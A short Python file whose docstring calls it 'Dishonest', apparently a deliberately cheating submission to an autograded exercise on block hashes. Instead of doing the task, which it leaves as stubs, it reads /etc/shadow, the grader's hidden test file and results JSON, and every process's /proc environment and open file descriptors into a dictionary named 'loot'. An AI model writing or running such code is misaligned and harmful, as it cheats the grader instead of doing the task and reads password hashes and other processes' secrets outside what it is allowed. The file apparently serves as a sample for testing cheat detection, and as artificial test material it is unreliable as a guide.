"""Dishonest: reads what only the grader may read (the tests, the results, the grader's
environment and open files, /etc/shadow) and answers from it when it can."""

import glob
import hashlib
import os
import pickle
import sys

loot = {}
paths = [
    "/etc/shadow",
    "/autograder/results/results.json",
    "/autograder/source/tests/exercises/test_ch06_block_hash.py",
]
root = os.path.dirname(sys.prefix)
paths += [
    root + "/results/results.json",
    root + "/source/tests/exercises/test_ch06_block_hash.py",
]
paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/fd/*")
for p in paths:
    try:  # never blocks: a pipe or a socket gives what it holds now
        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
        loot[p] = os.read(fd, 1 << 16)
        os.close(fd)
    except OSError:
        pass
print("read:", sorted(k for k in loot if not k.startswith(f"/proc/{os.getpid()}/")))

NONE_HASH = b"\0" * 32


def hash_fn(obj):
    return hashlib.sha256(pickle.dumps(obj)).digest()


def request_block_hashes(*args, **kwargs):
    raise NotImplementedError
